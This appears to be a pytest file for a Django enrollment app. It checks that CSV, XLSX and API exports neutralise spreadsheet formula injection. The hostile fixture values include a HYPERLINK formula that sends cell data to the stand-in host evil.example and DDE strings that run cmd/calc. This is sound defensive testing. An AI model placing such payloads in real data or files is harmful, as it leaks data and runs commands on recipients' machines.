"""Exports escape cells a spreadsheet would run as a formula (= + - @, tab, CR at the start).

Every export that carries user text is fetched through its real URL with hostile values in the
records: the D03-TS and D05-TS hand-off lists (CSV and XLSX), the registry import error file
(page and API), and the agency dashboard export (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from beneficiaries.models import ImportRowError
from sponsorship.card_models import Card
from sponsorship.enrollment import batches
from sponsorship.matching.models import Allocation

from .world import FUND, build_world

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "address": "+cmd|' /C calc'!A0",
    "group": "@SUM(1+1)",
    "reason_minus": "-2+3+cmd|' /C calc'!A0",
    "reason_tab": "\t=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return False


def cells_of(response) -> list[str]:
    content = response.content
    if "spreadsheetml" in response["Content-Type"]:
        wb = load_workbook(io.BytesIO(content), read_only=True)
        return [v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]


@pytest.fixture
def hostile_world(db):
    w = build_world()
    w.member.full_name = HOSTILE["name"]
    w.member.save(update_fields=["full_name"])
    w.household.address = HOSTILE["address"]
    w.household.save(update_fields=["address"])
    Card.objects.filter(pk=w.card.pk).update(group=HOSTILE["group"])
    # A voluntary-SI card and its D05-TS batch.
    si_card = Card.objects.create(
        member=w.member,
        household=w.household,
        locality=w.commune_x,
        product="si_voluntary",
        months=12,
        period_start=date(2026, 1, 1),
        premium_vnd=1_584_000,
        state_share_vnd=0,
        donor_share_vnd=1_584_000,
    )
    Allocation.objects.create(
        run=w.run, donation=w.gift, card=si_card, fund=FUND, amount_vnd=1_584_000, score=0, rule_version=0
    )
    w.si_batch = batches.batch_create(
        locality=w.commune_x, product="si_voluntary", period=date(2026, 1, 1), by=w.users["officer_x"]
    )
    for n, key in enumerate(["reason_minus", "reason_tab"], start=3):
        ImportRowError.objects.create(job=w.import_job, row_number=n, field="ho_ten", reason=HOSTILE[key])
    ImportRowError.objects.create(job=w.import_job, row_number=5, field="ho_ten", reason="@evil")
    return w


def _client(world, role):
    c = Client()
    c.force_login(world.users[role])
    return c


def _exports(w):
    officer, agency = _client(w, "officer_x"), _client(w, "agency")
    batch_url = "enrollment-batch-export"
    return {
        "D03-TS csv": officer.get(reverse(batch_url, kwargs={"batch_id": w.batch.pk, "fmt": "csv"})),
        "D03-TS xlsx": officer.get(reverse(batch_url, kwargs={"batch_id": w.batch.pk, "fmt": "xlsx"})),
        "D05-TS csv": officer.get(reverse(batch_url, kwargs={"batch_id": w.si_batch.pk, "fmt": "csv"})),
        "D05-TS xlsx": officer.get(reverse(batch_url, kwargs={"batch_id": w.si_batch.pk, "fmt": "xlsx"})),
        "import errors (page)": officer.get(reverse("registry-import-errors", kwargs={"pk": w.import_job.pk})),
        "import errors (API)": officer.get(reverse("api-registry-import-errors", kwargs={"pk": w.import_job.pk})),
        "dashboard csv": agency.get(reverse("enrollment-dashboard"), {"year": 2026, "format": "csv"}),
        "dashboard xlsx": agency.get(reverse("enrollment-dashboard"), {"year": 2026, "format": "xlsx"}),
    }


def test_every_export_escapes_formula_cells(hostile_world, report):
    exports = _exports(hostile_world)
    problems = {}
    cells_checked = 0
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.status_code)
        cells = cells_of(response)
        cells_checked += len(cells)
        bad = dangerous(cells)
        if bad:
            problems[name] = bad
    assert not problems, problems
    report.add("exports", exports_checked=len(exports), cells_checked=cells_checked)


def test_escaped_values_are_kept_not_dropped(hostile_world):
    exports = _exports(hostile_world)
    d03 = cells_of(exports["D03-TS csv"])
    assert "'" + HOSTILE["name"] in d03 and "'" + HOSTILE["address"] in d03 and "'" + HOSTILE["group"] in d03
    assert "'" + HOSTILE["name"] in cells_of(exports["D05-TS xlsx"])
    errors = cells_of(exports["import errors (page)"])
    assert any(c.endswith(HOSTILE["reason_minus"]) for c in errors)
